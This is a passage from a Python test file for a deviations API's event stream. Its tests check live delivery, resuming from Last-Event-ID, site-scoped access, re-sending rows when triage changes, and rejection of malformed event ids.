    assert {"software_version", "from", "to", "sort", "cursor", "limit"} <= params


# --- live stream ----------------------------------------------------------------------------


def _read_events(lines: Iterator[str], count: int, timeout_s: float) -> list[tuple[str, dict[str, Any]]]:
    events: list[tuple[str, dict[str, Any]]] = []
    event_id, data = None, ""
    deadline = time.monotonic() + timeout_s
    for line in lines:
        if line.startswith("id: "):
            event_id = line[4:]
        elif line.startswith("data: "):
            data = line[6:]
        elif line == "" and data:
            assert event_id is not None
            events.append((event_id, json.loads(data)))
            data = ""
            if len(events) >= count:
                return events
        if time.monotonic() > deadline:
            break
    return events


def _raise(codec: AvroCodec, client: Client, dev_id: str, site: str, module: str) -> None:
    b = NetworkBuilder()
    at = T0 + timedelta(days=11, hours=13)
    b.deviation(
        dev_id, DeviationTransition.RAISED, at, site=site, module=module, lane=1, alarm_code="DAT-GAP"
    )
    store(client, codec, b.events, datetime.now(UTC))


def test_stream_delivers_new_deviations_live_and_resumes_from_last_event_id(
    clickhouse: Client, clickhouse_settings: Settings, codec: AvroCodec
) -> None:
    network_db = clickhouse  # a database of its own: this test adds deviations
    apply_migrations(network_db)
    store(network_db, codec, build_network())
    app = create_api(clickhouse_settings, network_db, tokens=tokens(), stream_poll_s=0.1)
    with ApiServer(app) as server, httpx.Client(base_url=server.url, timeout=10) as http:
        url = "/api/v1/deviations/stream"
        with http.stream("GET", url, params={"backlog": 2}, headers=auth("quality")) as r:
            assert r.status_code == 200 and r.headers["content-type"].startswith("text/event-stream")
            lines = r.iter_lines()
            backlog = _read_events(lines, 2, 5)
            assert len(backlog) == 2  # the newest two by ingest cursor (one insert: ties by id)
            started = time.monotonic()
            _raise(codec, network_db, "LIVE-1", "site-b", "b-m1")
            live = _read_events(lines, 1, 5)
            assert [e["deviation_id"] for _, e in live] == ["LIVE-1"]
            assert live[0][1]["class"] == "DATA_INTEGRITY" and live[0][1]["severity"] == "MAJOR"
            assert time.monotonic() - started < 3
            resume_from = live[0][0]
        # while nobody listens, two more arrive; resuming from the last id delivers exactly those
        _raise(codec, network_db, "LIVE-2", "site-a", "a-m1")
        _raise(codec, network_db, "LIVE-3", "site-b", "b-m1")
        headers = auth("quality") | {"Last-Event-ID": resume_from}
        with http.stream("GET", url, headers=headers) as r:
            assert [e["deviation_id"] for _, e in _read_events(r.iter_lines(), 2, 5)] == ["LIVE-2", "LIVE-3"]
        # a site token's stream carries its own site only
        with http.stream("GET", url, headers=auth("site-a") | {"Last-Event-ID": resume_from}) as r:
            assert [e["deviation_id"] for _, e in _read_events(r.iter_lines(), 1, 5)] == ["LIVE-2"]
        assert http.get(url, params={"site": "site-b"}, headers=auth("site-a")).status_code == 403
        bad = auth("quality") | {"Last-Event-ID": "garbage"}
        assert http.get(url, headers=bad).status_code == 400


def test_the_stream_serves_the_triage_views_rows(network_db: Client) -> None:
    """One rule set: the stream's rows are the list's rows (the same view), every column, duplicates
    and cluster sizes included."""
    from atmpnet.warehouse.queries import LIST_COLUMNS, DeviationFilter, Warehouse

    wh = Warehouse(network_db)
    streamed = {i["deviation_id"]: i for i in wh.deviation_changes(None, None, limit=1000)}
    listed = {i["deviation_id"]: i for i in wh.deviations(DeviationFilter(), limit=1000).items}
    assert streamed.keys() == listed.keys() == EXPECTED["class"].keys()
    for dev_id, view in listed.items():
        assert set(streamed[dev_id]) == {*LIST_COLUMNS, "_cursor"}
        assert {k: streamed[dev_id][k] for k in LIST_COLUMNS} == view, dev_id
    assert streamed["D3"]["duplicate_of"] == "D2" and streamed["D3"]["class"] == "DUPLICATE"
    assert streamed["D3"]["module_cluster_size"] == 2


def _deviation(
    b: NetworkBuilder, dev_id: str, transition: DeviationTransition, at: datetime, **kw: Any
) -> None:
    b.deviation(dev_id, transition, at, site="site-b", module="b-m1", lane=2, alarm_code="DAT-GAP", **kw)


def _store_one(
    codec: AvroCodec, client: Client, dev_id: str, transition: DeviationTransition, at: datetime
) -> None:
    b = NetworkBuilder()
    _deviation(b, dev_id, transition, at)
    store(client, codec, b.events, datetime.now(UTC))


def test_stream_resends_a_deviation_when_its_triage_changes(
    clickhouse: Client, clickhouse_settings: Settings, codec: AvroCodec
) -> None:
    """A status change and a duplicate_of that an earlier deviation's late arrival decides both
    re-send the row; each frame is the list's row; a resume delivers each changed row once."""
    apply_migrations(clickhouse)
    store(clickhouse, codec, build_network())
    app = create_api(clickhouse_settings, clickhouse, tokens=tokens(), stream_poll_s=0.1)
    t = T0 + timedelta(days=11, hours=13)
    raised, closed = DeviationTransition.RAISED, DeviationTransition.CLOSED
    with ApiServer(app) as server, httpx.Client(base_url=server.url, timeout=10) as http:

        def listed(frame: dict[str, Any]) -> dict[str, Any]:
            """The list endpoint's row of the frame's deviation, on the frame's columns."""
            r = http.get("/api/v1/deviations", params={"site": "site-b"}, headers=auth("ops"))
            row = next(i for i in r.json()["items"] if i["deviation_id"] == frame["deviation_id"])
            return {k: row[k] for k in frame}

        with http.stream("GET", "/api/v1/deviations/stream", headers=auth("ops")) as r:
            lines = r.iter_lines()
            _store_one(codec, clickhouse, "LATE-2", raised, t)
            [(first_id, late)] = _read_events(lines, 1, 5)
            assert (late["deviation_id"], late["class"], late["duplicate_of"]) == (
                "LATE-2",
                "DATA_INTEGRITY",
                None,
            )
            # an earlier deviation with the same key, still open, arrives late: LATE-2 becomes its duplicate
            _store_one(codec, clickhouse, "EARLY-1", raised, t - timedelta(hours=1))
            got = {e["deviation_id"]: e for _, e in _read_events(lines, 2, 5)}
            assert set(got) == {"EARLY-1", "LATE-2"}
            assert (got["LATE-2"]["class"], got["LATE-2"]["severity"]) == ("DUPLICATE", "MINOR")
            assert got["LATE-2"]["duplicate_of"] == "EARLY-1"
            assert got["LATE-2"] == listed(got["LATE-2"]) and got["EARLY-1"] == listed(got["EARLY-1"])
            # a status change
            _store_one(codec, clickhouse, "LATE-2", closed, t + timedelta(minutes=5))
            [(_, closed_row)] = _read_events(lines, 1, 5)
            assert (closed_row["deviation_id"], closed_row["status"]) == ("LATE-2", "CLOSED")
            assert closed_row == listed(closed_row)
        # resuming after the first frame: each deviation changed since, once, in its latest state
        with http.stream(
            "GET", "/api/v1/deviations/stream", headers=auth("ops") | {"Last-Event-ID": first_id}
        ) as r:
            resumed = _read_events(r.iter_lines(), 2, 5)
            assert [e["deviation_id"] for _, e in resumed] == ["EARLY-1", "LATE-2"]
            assert resumed[1][1]["status"] == "CLOSED" and resumed[1][1]["duplicate_of"] == "EARLY-1"


@pytest.mark.parametrize(
    ("event_id", "code"),
    [
        (f"{2**63}-D1", 400),  # one past Int64
        ("99999999999999999999-D1", 400),  # 20 digits
        ("-5-D1", 400),
        ("garbage", 400),
        (f"{2**63 - 1}-D1", None),  # the largest cursor is one of ours
    ],
)
def test_last_event_id_beyond_a_signed_64_bit_cursor_is_a_400(
    api: TestClient, event_id: str, code: int | None
) -> None:
    from atmpnet.api.stream import parse_event_id
    from fastapi import HTTPException

    if code is None:
        assert parse_event_id(event_id) == (2**63 - 1, "D1")
        return
    with pytest.raises(HTTPException) as err:
        parse_event_id(event_id)
    assert err.value.status_code == code
    r = api.get("/api/v1/deviations/stream", headers=auth("quality") | {"Last-Event-ID": event_id})
    assert r.status_code == 400 and r.json()["detail"] == "Last-Event-ID is not an event id of this stream"
